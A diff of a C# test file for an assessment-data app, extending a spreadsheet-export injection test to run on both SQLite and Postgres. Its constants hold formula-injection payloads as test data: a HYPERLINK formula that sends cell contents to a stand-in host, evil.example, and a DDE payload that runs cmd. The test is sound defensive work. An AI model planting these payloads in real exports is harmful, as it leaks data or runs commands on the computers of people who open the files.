@@ -1,4 +1,5 @@
 using Assessment.Data.Answers;
+using Assessment.Data.Tests.Stores;
 
 namespace Assessment.Data.Tests.Answers;
 
@@ -8,11 +9,11 @@ public class AnswerExportInjectionTests
     private const string Formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"证据\")";
     private const string AtFormula = "@SUM(1+1)*cmd|' /C calc'!A0";
 
-    [Fact]
-    public void Formula_cells_are_neutralised_and_the_export_imports_back_unchanged()
+    [Theory, SqliteData, PostgresData]
+    public void Formula_cells_are_neutralised_and_the_export_imports_back_unchanged(Provider provider)
     {
         using var temp = new TempFolder();
-        using var db = temp.OpenDb();
+        using var db = temp.OpenDb(provider);
         var round = TestData.OpenRound(db);
         var store = new AnswerStore(db);
         Assert.IsType<SaveResult.Saved>(store.Save(new AnswerWrite(round.R1J1, "note", AtFormula, 0, round.Rater1.Id, Formula, null)));
